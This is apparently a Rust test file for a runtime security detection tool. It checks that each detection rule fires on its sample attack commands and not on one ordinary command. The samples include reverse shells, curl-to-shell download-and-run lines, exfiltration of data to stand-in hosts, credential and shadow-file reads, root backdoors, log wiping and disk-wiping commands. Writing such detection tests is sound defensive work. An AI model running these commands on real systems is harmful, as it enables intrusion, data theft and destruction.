//! The own pack: each rule hits what it was written for and nothing ordinary.

use super::*;

/// Titles of the rules of the own pack that an example hits: a program's path and line, or a peer.
fn titles(rules: &Indicators, example: &str) -> BTreeSet<String> {
    let found = match example.split_once(' ') {
        Some((path, line)) => hits(rules, run(path, line), Action::Exec),
        None => {
            let (address, port) = example.rsplit_once(':').unwrap();
            let action = Action::Connect { address, port: port.parse().unwrap(), name: "" };
            hits(rules, run("/usr/bin/x", "x"), action)
        }
    };
    let titles = |hit: Hit| {
        let known = rules.processes.rules.iter().chain(&rules.connections.rules);
        let named = known.map(|rule| rule.compiled.title.clone());
        named.filter(|title| hit.fact.contains(title)).collect::<Vec<_>>()
    };
    found.into_iter().flat_map(titles).collect()
}

/// For each rule of the own pack: its title, what it must hit and what it must leave alone.
const EXAMPLES: &[(&str, &[&str], &str)] = &[
    (
        "Shell joined to a network socket by /dev/tcp",
        &[
            "/bin/bash bash -c cat </dev/tcp/10.0.0.1/80",
            "/usr/bin/gawk gawk BEGIN{s=\"/inet/tcp/0/h/80\"}",
            "/bin/bash bash -c bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
            "/bin/bash bash -c exec 5<>/dev/tcp/h/80; cat <&5",
            "/bin/bash bash -c echo > /dev/tcp/h/1; tar c /srv > /dev/tcp/h/2",
            "/bin/bash bash -c D=/dev/tcp/h/80; sh 0<$D",
        ],
        "/bin/bash bash -c echo > /dev/tcp/db/5432 && echo open",
    ),
    (
        "What was fetched is run at once",
        &[
            "/bin/sh sh -c curl -s http://a.example/x|sh",
            "/bin/sh sh -c wget -O- https://a.example/x | /bin/bash -s",
            "/bin/sh sh -c curl -s a.example/x | sudo sh",
            "/bin/bash bash -c bash <(curl -s a.example/x)",
            "/bin/sh sh -c eval \"$(wget -qO- a.example/x)\"",
            "/bin/sh sh -c wget http://a.example/x; chmod +x x; ./x > /tmp/out",
            "/bin/sh sh -c curl -so /tmp/x a.example/x && chmod 755 /tmp/x && nohup /tmp/x",
            "/bin/sh sh -c curl -so /tmp/x a.example/x\nsh /tmp/x",
        ],
        "/bin/sh sh -c curl http://a.example/x | sha256sum",
    ),
    (
        "Code that runs what it fetches",
        &[
            "/usr/bin/python3 python3 -c exec(urllib.request.urlopen(u).read())",
            "/usr/bin/ruby ruby -ropen-uri -e eval(URI.open(u).read)",
        ],
        "/usr/bin/python3 python3 -c print(urllib.request.urlopen(u).read())",
    ),
    (
        "Code that ties a socket to a shell",
        &[
            "/usr/bin/python3 python3 -c import socket,os;s.connect((h,1));os.dup2(s.fileno(),0)",
            "/usr/bin/node node -e c=new net.Socket();p=require('child_process').spawn('sh')",
            "/usr/bin/php php -r $s=fsockopen(h,1);exec('sh <&3')",
            "/usr/bin/ruby ruby -rsocket -e exec(sprintf('sh <&%d',TCPSocket.new(h,1)))",
        ],
        "/usr/bin/python3 python3 -c import socket;s.connect((h,1))",
    ),
    (
        "A relay is told to run a program",
        &[
            "/bin/nc nc 10.0.0.1 80 -e /bin/sh",
            "/usr/bin/socat socat TCP:10.0.0.1:80 EXEC:sh",
            "/bin/nc nc -e sh h 1",
        ],
        "/bin/echo echo -e shop",
    ),
    (
        "A named pipe makes netcat a shell",
        &[
            "/bin/sh sh -c mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 80 > f",
            "/bin/sh sh -c openssl s_client -quiet -connect h:1 | sh",
        ],
        "/usr/bin/mkfifo mkfifo /run/sync ",
    ),
    (
        "Text is decoded on the command line",
        &[
            "/bin/sh sh -c echo aWQ= | base64 -d",
            "/usr/bin/base64 base64 -i -d x",
            "/usr/bin/node node -e eval(Buffer.from('aWQ=','base64'))",
            "/bin/sh sh -c printf '\\x69\\x64\\x0a\\x0a'|sh",
        ],
        "/usr/bin/base64 base64 /etc/web.conf",
    ),
    (
        "A harmless tool is asked for a shell",
        &[
            "/usr/bin/find find . -exec /bin/sh -p ;",
            "/usr/bin/awk awk BEGIN {system(\"/bin/sh\")}",
            "/usr/bin/vim vim -c :!sh",
            "/usr/bin/mawk mawk BEGIN {\"/bin/sh\" | getline; print | \"/bin/sh\"}",
            "/bin/sh sh -c echo '! exec \"/bin/bash &\"' | cpan",
            "/usr/bin/python3 python3 -c import os; os.system(\"/bin/sh\")",
            "/usr/bin/perl perl -e exec \"/bin/sh\";",
            "/usr/bin/node node -e require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})",
            "/usr/bin/script script -qc /bin/bash /dev/null",
            "/usr/bin/ssh ssh -o ProxyCommand=;sh 0<&2 1>&2 x",
        ],
        "/usr/bin/find find /srv -name x -exec rm {} ;",
    ),
    (
        "An interpreter makes a file in memory",
        &["/usr/bin/perl perl -e syscall(319,$n,1)"],
        "/usr/bin/perl perl -e print 319",
    ),
    (
        "A library is pushed into a program",
        &[
            "/usr/bin/env env LD_PRELOAD=/tmp/x.so id",
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 ld.so /tmp/x",
            "/bin/sh sh -c echo /srv/x.so > /etc/ld.so.preload",
        ],
        "/usr/bin/env env LD_PRELOAD=/usr/lib/libjemalloc.so redis-server",
    ),
    (
        "A file of credentials is named",
        &["/bin/cat cat /root/.pgpass", "/bin/tar tar cf x /srv/*.pem"],
        "/bin/cat cat /etc/web.conf",
    ),
    ("The file of password hashes is named", &["/bin/cat cat /etc/shadow"], "/bin/cat cat /srv/shadow"),
    (
        "The cloud's metadata service is asked",
        &[
            "/usr/bin/curl curl http://169.254.169.254/",
            "/usr/bin/wget wget -O- http://metadata.google.internal/x",
        ],
        "/usr/bin/curl curl http://meta.example/latest/data",
    ),
    (
        "Accounts are looked up",
        &[
            "/usr/bin/id id",
            "/bin/cat cat /etc/passwd",
            "/usr/bin/cut cut -d: -f1 /etc/passwd",
            "/usr/bin/getent getent group",
            "/usr/bin/sudo sudo -l",
        ],
        "/usr/bin/getent getent hosts db",
    ),
    (
        "The cluster is asked for its secrets",
        &[
            "/usr/bin/curl curl -k https://kubernetes.default.svc/api/v1/secrets",
            "/bin/kubectl kubectl auth can-i --list",
        ],
        "/usr/bin/curl curl https://shop.example/api/v1/orders",
    ),
    (
        "Secrets are searched for",
        &["/bin/grep grep -ri password /srv", "/usr/bin/find find / -type f -name *.kdbx"],
        "/bin/grep grep error /srv/log",
    ),
    (
        "A place is named from which programs are started again",
        &["/bin/cat cat /root/.ssh/authorized_keys", "/usr/bin/crontab ct -l"],
        "/usr/bin/run-parts run-parts /etc/cron.daily",
    ),
    (
        "What is started again is changed",
        &[
            "/bin/sh sh -c echo x >> /root/.ssh/authorized_keys",
            "/usr/bin/crontab crontab -",
            "/usr/bin/crontab crontab /srv/x",
            "/bin/cp cp /srv/x /etc/cron.d/x",
            "/bin/sed sed -i 1s/^/x/ /etc/pam.d/su",
            "/usr/bin/tee tee -a /etc/rc.local",
        ],
        "/bin/cp cp /srv/cron.d/x /srv/y",
    ),
    (
        "An account is given the rights of root",
        &[
            "/usr/sbin/useradd useradd -o -u 0 x",
            "/usr/sbin/usermod usermod -aG sudo x",
            "/bin/sh sh -c echo x::0:0::/:/bin/sh >> /etc/passwd",
            "/bin/sh sh -c echo 'x ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/x",
        ],
        "/bin/echo echo a:0:0:b",
    ),
    (
        "A program is given another's rights",
        &[
            "/bin/chmod chmod u+s /bin/bash",
            "/bin/chmod chmod 4755 /srv/x",
            "/sbin/setcap setcap cap_setuid+ep /x",
        ],
        "/bin/chmod chmod 0755 /srv/x",
    ),
    (
        "A file in a scratch directory is made executable",
        &[
            "/bin/chmod chmod +x /tmp/a",
            "/bin/chmod chmod 755 /dev/shm/a",
            "/bin/sh sh -c chmod -R u=rwx /tmp/a",
        ],
        "/bin/chmod chmod 644 /tmp/x7",
    ),
    (
        "A file is kept from being removed",
        &["/usr/bin/chattr chattr +i /tmp/x", "/usr/bin/chattr chattr -ia /tmp/x"],
        "/usr/bin/lsattr lsattr /tmp/x",
    ),
    (
        "An interface to the host is named",
        &["/usr/bin/curl curl --unix-socket /var/run/docker.sock http://x/"],
        "/bin/cat cat /proc/cpuinfo",
    ),
    (
        "A toolkit against containers",
        &["/tmp/cdk /tmp/cdk evaluate", "/bin/sh sh linpeas.sh"],
        "/usr/bin/cdktool cdktool x",
    ),
    (
        "A way out of the container is looked for",
        &["/bin/cat cat /proc/1/cgroup", "/bin/grep grep CapEff /proc/self/status"],
        "/bin/cat cat /proc/self/status",
    ),
    (
        "Programs with others' rights, or without a guard, are searched for",
        &[
            "/usr/bin/find find / -perm -4000 -type f",
            "/usr/bin/find find / -perm -u=s",
            "/usr/bin/find find / -perm -g+w -type d",
            "/usr/bin/find find / -perm -0002 -type f",
            "/usr/bin/find find / -writable ! -path /proc/*",
            "/sbin/getcap getcap -r /",
        ],
        "/usr/bin/find find /srv -perm 0644",
    ),
    ("The runtime's API is called over the network", &["172.17.0.1:2375"], "172.17.0.1:443"),
    ("The cluster's inner ports are called", &["10.0.0.1:10250"], "10.0.0.1:5432"),
    (
        "Logs or the shell's history are removed",
        &[
            "/bin/sh sh -c history -c",
            "/bin/rm rm -rf /var/log/nginx",
            "/bin/sed sed -i /10.0.0.1/d /var/log/nginx/access.log",
            "/bin/sh sh -c id; cat /dev/null > /var/log/auth.log",
        ],
        "/bin/cat cat /var/log/nginx/access.log",
    ),
    (
        "What watches is switched off",
        &["/usr/bin/pkill pkill -9 falco", "/sbin/iptables iptables -F"],
        "/usr/bin/pkill pkill -HUP nginx",
    ),
    (
        "A file is made to look like another",
        &[
            "/bin/touch touch -r /bin/ls /tmp/x",
            "/bin/touch touch -acmr /bin/ls x",
            "/bin/touch touch -m -t 202001010000 x",
            "/usr/bin/truncate truncate -s +8 /tmp/x",
            "/bin/sh sh -c date -s 2020-01-01; touch x",
            "/bin/sh sh -c dd if=/dev/zero bs=1 count=1 >> /tmp/x",
        ],
        "/bin/touch touch /run/ready",
    ),
    (
        "Data is wiped",
        &[
            "/bin/rm rm -rf /*",
            "/bin/rm rm -fr --one-file-system /srv",
            "/bin/sh sh -c rm -r /tmp/a /var/lib; echo done",
            "/bin/dd dd if=/dev/zero of=/dev/sda",
            "/sbin/mkfs.ext4 mkfs.ext4 /dev/vda",
        ],
        "/bin/rm rm -rf /var/lib/postgresql/copy",
    ),
    (
        "Data is encrypted",
        &[
            "/usr/bin/gpg gpg -c /srv/db",
            "/usr/bin/openssl openssl enc -aes-256-cbc -in x",
            "/usr/bin/zip zip -P x a",
            "/usr/bin/openssl openssl des3 -salt -pass pass:x",
            "/usr/bin/openssl openssl aes-256-cbc -pbkdf2 -in x",
        ],
        "/usr/bin/openssl openssl dgst x",
    ),
    (
        "A miner's words on the command line",
        &["/srv/x /srv/x -o stratum+tcp://pool:1"],
        "/srv/x /srv/x --coins 5",
    ),
    ("A port that mining pools use", &["203.0.113.9:3333"], "203.0.113.9:443"),
    (
        "A file is sent away",
        &[
            "/usr/bin/curl curl -F f=@/srv/db https://a.example",
            "/bin/sh sh -c curl -F 'f=@/srv/db' https://a.example",
            "/usr/bin/curl curl --data-binary @db http://a.example",
            "/usr/bin/scp scp /srv/db x@a.example:/",
            "/bin/sh sh -c nc a.example 80 < /srv/db",
            "/bin/sh sh -c tar c /srv | ssh a.example cat",
            "/usr/bin/aws aws s3 cp /srv/db s3://x",
        ],
        "/usr/bin/curl curl -d x=1 http://a.example",
    ),
    (
        "A file is fetched into a scratch directory",
        &["/usr/bin/curl curl -o /tmp/x http://a.example/x", "/bin/wget wget http://a.example/x -P /dev/shm"],
        "/usr/bin/curl curl http://a.example/tmp/x",
    ),
    (
        "A folder is served to the network",
        &[
            "/usr/bin/python3 python3 -m http.server 9090",
            "/usr/bin/php php -S 0.0.0.0:8080",
            "/bin/sh sh -c ruby -run -e httpd . -p 8000",
        ],
        "/usr/bin/python3 python3 -m unittest",
    ),
    (
        "A domain is made of data",
        &[
            "/bin/sh sh -c dig @10.0.0.1 $(head -c 30 /srv/db | base64).a.example",
            "/bin/sh sh -c for c in $(xxd -p /srv/db); do nslookup $c.a.example; done",
            "/usr/bin/nslookup nslookup aGVsbG8gaGVsbG8gaGVsbG8gaGVsbG8gaGVsbG8gaGVs.x.a.example",
        ],
        "/usr/bin/dig dig +short api.a.example",
    ),
    ("What the kernel has loaded is listed", &["/bin/lsmod lsmod", "/bin/kmod kmod list"], "/bin/ls ls /lib"),
    (
        "A tunnel is built",
        &["/tmp/chisel x client a:1 R:socks", "/usr/bin/ssh ssh -N -R 9000:localhost:22 h"],
        "/usr/bin/ssh ssh host ls",
    ),
    (
        "A name where anyone can leave files",
        &["/usr/bin/curl curl https://pastebin.com/raw/x"],
        "/usr/bin/curl curl https://profile.io/x",
    ),
    ("A port that remote shells wait on", &["203.0.113.9:4444"], "203.0.113.9:80"),
    (
        "Ports are tried by a tool that is no scanner",
        &[
            "/bin/nc nc -zv 10.0.0.1 1-1024",
            "/bin/bash bash -c for p in 22 80; do echo > /dev/tcp/h/$p; done",
            "/bin/sh sh -c for h in 10.0.0.{1..9}; do ping -c 1 $h; done",
            "/bin/sh sh -c for p in $(seq 1 99); do nc -z h $p; done",
        ],
        "/bin/bash bash -c for to in db/5432 mail/25; do echo > /dev/tcp/$to; done",
    ),
    (
        "A database is told to leave its tables",
        &[
            "/usr/bin/psql psql -c COPY t FROM PROGRAM 'id'",
            "/usr/bin/redis-cli redis-cli config set dir /root/.ssh",
        ],
        "/usr/bin/redis-cli redis-cli config set maxmemory 1gb",
    ),
];

#[test]
fn every_rule_of_the_own_pack_loads_and_hits_its_examples_and_nothing_ordinary() {
    let mut own = Indicators::default();
    for (file, yaml) in OWN {
        let added = own.add(file, yaml);
        assert_eq!((added.broken, added.skipped), (vec![], 0));
    }
    let all = own.processes.rules.iter().chain(&own.connections.rules);
    let all: BTreeSet<&str> = all.map(|rule| rule.compiled.title.as_str()).collect();
    let shown: BTreeSet<&str> = EXAMPLES.iter().map(|(title, ..)| *title).collect();
    assert_eq!((all, own.len()), (shown, EXAMPLES.len()));
    for (title, attacks, ordinary) in EXAMPLES {
        for attack in *attacks {
            assert!(titles(&own, attack).contains(*title), "{title} misses {attack}");
        }
        assert_eq!(titles(&own, ordinary), BTreeSet::new(), "{ordinary}");
    }
}
